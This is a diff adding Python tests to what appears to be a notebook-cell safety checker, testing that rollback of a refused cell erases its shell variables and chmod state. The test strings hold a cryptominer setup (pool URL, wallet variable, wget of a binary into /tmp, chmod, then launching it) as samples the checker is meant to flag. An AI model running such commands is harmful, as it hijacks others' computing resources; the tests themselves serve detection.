@@ -231,3 +231,41 @@ def test_rollback_forgets_a_refused_cell_exactly(engine):
     assert after[0] != before[0] and after[1] != before[1] and after[2] == before[2] + 1
     ctx.rollback(mark)
     assert state() == before
+
+
+def test_rollback_forgets_a_refused_cells_shell_state(engine):
+    """``export``, ``%env`` and ``chmod +x`` in a refused cell must not reach later cells: a
+    later cell reads exactly as in a session where the refused one never came."""
+    first = "!export DATA=/srv/data && chmod +x prep"
+    refused = ("%env POOL=stratum+tcp://pool.example.net:3333\n!export W=WALLET\n%cd /tmp\n"
+               "!cd /tmp && wget https://example.org/x/tool && chmod +x tool\n!" + MINER)
+    later = ["!./tool -o $POOL -u $W", "!./prep $DATA", "!echo $POOL"]
+
+    def state(c):
+        return dict(c.shell.vars), set(c.shell.chmodded), c.cells
+
+    ctx, fresh = engine.new_context(), engine.new_context()
+    engine.check_cell(first, ctx)
+    engine.check_cell(first, fresh)
+    before = state(ctx)
+    assert before[0] == {"DATA": "/srv/data"} and before[1] == {"prep"}
+    mark = ctx.checkpoint()
+    assert engine.check_cell(refused, ctx).verdict == "flag"
+    assert state(ctx) != before and "POOL" in ctx.shell.vars and "tool" in ctx.shell.chmodded
+    ctx.rollback(mark)
+    assert state(ctx) == before
+    for code in later:
+        assert engine.check_cell(code, ctx).to_dict() == engine.check_cell(code, fresh).to_dict(), code
+    # the refused cell, had it run, would have made the first of them a miner
+    assert engine.check_cell(refused, fresh).verdict == "flag"
+    assert engine.check_cell(later[0], fresh).verdict == "flag"
+
+
+def test_checking_without_remembering_leaves_the_shell_state_alone(engine):
+    ctx = engine.new_context()
+    engine.check_cell("!export A=1", ctx)
+    shell = ctx.shell
+    engine.check_cell("!export A=2 B=3 && chmod +x tool", ctx, remember=False)
+    assert ctx.shell is shell and shell.vars == {"A": "1"} and not shell.chmodded
+    engine.check_cell("!export B=3", ctx)
+    assert ctx.shell.vars == {"A": "1", "B": "3"} and shell.vars == {"A": "1"}, "a session's state is replaced, not changed"
